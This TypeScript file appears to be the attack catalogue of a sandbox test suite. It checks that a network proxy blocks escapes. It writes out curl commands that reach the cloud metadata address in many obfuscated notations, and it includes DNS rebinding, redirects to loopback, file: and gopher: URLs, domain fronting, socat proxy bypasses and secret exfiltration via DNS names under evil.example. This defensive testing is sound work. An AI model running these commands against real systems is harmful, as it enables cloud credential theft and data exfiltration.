import type { Attack, Seen } from "../attack.ts";

const PROXY = "the proxy, the only way out";
const PRIVATE = `${PROXY}: resolves once, public addresses alone, pins what it dials`;

/** What listens at every address of the namespace that the control has for itself, and gives the canary away. */
const SERVER = [
  "import http.server,socket,sys",
  "class H(http.server.BaseHTTPRequestHandler):",
  '  def do_GET(s): s.send_response(200); s.end_headers(); s.wfile.write(open(sys.argv[1],"rb").read())',
  "  def log_message(*a): pass",
  "class V(http.server.HTTPServer): address_family=socket.AF_INET6",
  'V(("::",80),H).serve_forever()',
].join("\n");

/** A machine of a cloud: something answers at the metadata addresses. */
const inCloud = (script: string): string =>
  `ip link set lo up; ip address add 169.254.169.254/32 dev lo; ip -6 address add fd00:ec2::254/128 dev lo nodad
   /usr/bin/python3 -c '${SERVER}' "$OUTSIDE/secret" & for i in {1..100}; do (exec 3<>/dev/tcp/127.0.0.1/80) 2>/dev/null && break; sleep 0.1; done
   ${script}`;

const NOTATIONS: Record<string, string> = {
  dotted: "169.254.169.254",
  dot: "169.254.169.254.",
  decimal: "2852039166",
  hexadecimal: "0xa9fea9fe",
  parts: "0xa9.0xfe.0xa9.0xfe",
  octal: "0251.0376.0251.0376",
  short: "169.254.43518",
  encoded: "%31%36%39.254.169.254",
  mapped: "[::ffff:169.254.169.254]",
  "mapped-hex": "[::ffff:a9fe:a9fe]",
  ipv6: "[fd00:ec2::254]",
};

/** By the proxy that programs find, in a tunnel, and past it. */
const get = (url: string): string =>
  `curl -sgm 5 'http://${url}/'; curl -sgkm 5 'https://${url}/'; curl -sgpm 5 'http://${url}:80/'; curl -sgm 5 --noproxy '*' 'http://${url}/'; true`;

/** As programs do that read addresses by the URL standard; curl does not take a dot at the end. */
const byUrl = (host: string): string =>
  `'${process.execPath}' -e 'fetch("http://${host}/").then(async (r) => console.log(await r.text()))'`;

const metadata = Object.entries(NOTATIONS).map(([name, notation]): Attack => ({
  id: `metadata-${name}`,
  title: `asks the cloud's metadata service, written ${notation}`,
  by: PRIVATE,
  script: get(notation),
  openly: inCloud(name === "dot" ? byUrl(notation) : `curl -sgm 5 'http://${notation}/'`),
  control: "namespace",
  wayOut: true,
  ...(name === "decimal" ? { sample: true } : {}),
}));

const asked = ({ world, mark }: Seen): boolean =>
  world.internet.asked.some((name) => name.includes(mark)) || world.datagrams.includes(`exfiltrated-${mark}`);

/** Of sandboxes that may use the network, for three hosts of a policy: out to where it does not lead. */
export const wayOutAttacks: Attack[] = [
  ...metadata,
  {
    id: "metadata-name",
    title: "asks the metadata service by a name that the policy allows",
    by: PRIVATE,
    script: `${get("metadata.example.com")} ${get("mixed.example.com")}`,
    openly: inCloud("curl -sm 5 --resolve metadata.example.com:80:169.254.169.254 http://metadata.example.com/"),
    control: "namespace",
    wayOut: true,
  },
  {
    id: "rebinding",
    title: "asks a name that is public when it is judged and private when it is dialled",
    by: PRIVATE,
    script: "for i in 1 2 3 4; do curl -sm 5 http://rebound.example.com/; done",
    openly: [
      "/usr/bin/python3 - <<'E'",
      "import itertools,os,urllib.request",
      "answers = itertools.cycle(['93.184.216.34', '127.0.0.1'])",
      "resolve = lambda name: next(answers)",
      "if not resolve('rebound.example.com').startswith('127.'):",
      "  print(urllib.request.urlopen('http://%s:%s/' % (resolve('rebound.example.com'), os.environ['INNER'])).read().decode())",
      "E",
    ].join("\n"),
    control: "user",
    wayOut: true,
  },
  {
    id: "redirect",
    title: "is redirected from an allowed host to loopback, metadata and a name for it",
    by: `${PROXY}: a redirect is one more request, judged like any other`,
    script:
      "for to in loopback metadata name; do curl -sLm 5 http://www.example.com/to-$to; curl -sLm 5 --noproxy 127.0.0.1 https://www.example.com/to-$to; done; true",
    openly: "curl -sLm 5 http://127.0.0.1:$FAR/to-loopback",
    control: "user",
    wayOut: true,
    sample: true,
  },
  {
    id: "file-url",
    title: "reads a file of the host by a file: URL",
    by: "mount namespace: nothing of the host but the workspace is there; the proxy speaks HTTP alone",
    script: 'curl -sm 5 "file://$OUTSIDE/secret"; curl -sm 5 -x "$http_proxy" --proxytunnel "file://$OUTSIDE/secret"; true',
    openly: 'curl -sm 5 "file://$OUTSIDE/secret"',
    control: "user",
    wayOut: true,
  },
  {
    id: "gopher-url",
    title: "speaks to a service of the host by a gopher: URL",
    by: `network namespace; ${PROXY}: no tunnel to bare addresses, nothing but HTTP inside TLS`,
    script: "curl -sm 5 gopher://127.0.0.1:$PORT/_x; curl -spm 5 -x $http_proxy --noproxy '' gopher://127.0.0.1:$PORT/_x; true",
    openly: "curl -sm 5 gopher://127.0.0.1:$PORT/_x",
    control: "user",
    wayOut: true,
  },
  {
    id: "domain-fronting",
    title: "asks another site behind an allowed host, by Host header",
    by: `${PROXY}: tunnel, TLS handshake and Host must name the same`,
    script:
      "for s in http https; do curl -skm 5 -H 'Host: hidden.example.com' $s://www.example.com/; curl -skm 5 $s://www.example.com/ --request-target http://hidden.example.com/; done; true",
    openly: "curl -skm 5 -H 'Host: hidden.example.com' --resolve www.example.com:$FAR_TLS:127.0.0.1 https://www.example.com:$FAR_TLS/",
    control: "user",
    wayOut: true,
    sample: true,
  },
  {
    id: "domain-fronting-sni",
    title: "names another site in the TLS handshake than in the tunnel",
    by: `${PROXY}: tunnel, TLS handshake and Host must name the same`,
    script:
      "curl -skm 5 --connect-to hidden.example.com:443:www.example.com:443 https://hidden.example.com/; curl -skm 5 https://hidden.example.com/; true",
    openly: "curl -skm 5 --connect-to hidden.example.com:443:127.0.0.1:$FAR_TLS https://hidden.example.com/",
    control: "user",
    wayOut: true,
  },
  {
    id: "dns-by-proxy",
    title: "has a secret looked up as part of a name, by the proxy",
    by: `${PROXY}: a name is judged before it is resolved`,
    script: [
      "curl -sm 5 http://$MARK.evil.example/; curl -skm 5 https://$MARK.evil.example/",
      'curl -sm 5 "http://dns.guildhall/?name=$MARK.evil.example&type=TXT"; curl -sm 5 http://$MARK.www.example.com/; getent hosts $MARK.evil.example; true',
    ].join("; "),
    openly: "./probe datagram 127.0.0.1 $UDP exfiltrated-$MARK; sleep 0.2",
    control: "user",
    wayOut: true,
    judge: asked,
  },
  {
    id: "past-the-proxy",
    title: "goes past the proxy: other sockets, other ports of it",
    by: "network namespace with nothing but a loopback of its own; the socket of the proxy is one for HTTP",
    script:
      "socat -T2 - UNIX-CONNECT:/run/guildhall-network/proxy <<< $'CONNECT 127.0.0.1:'$INNER$' HTTP/1.1\\nHost: 127.0.0.1\\n\\nGET / HTTP/1.0\\n\\n'; socat -T2 - TCP:127.0.0.1:$INNER < /dev/null; curl -sm 5 http://127.0.0.1:$INNER/; true",
    openly: "curl -sm 5 http://127.0.0.1:$INNER/",
    control: "user",
    wayOut: true,
  },
];
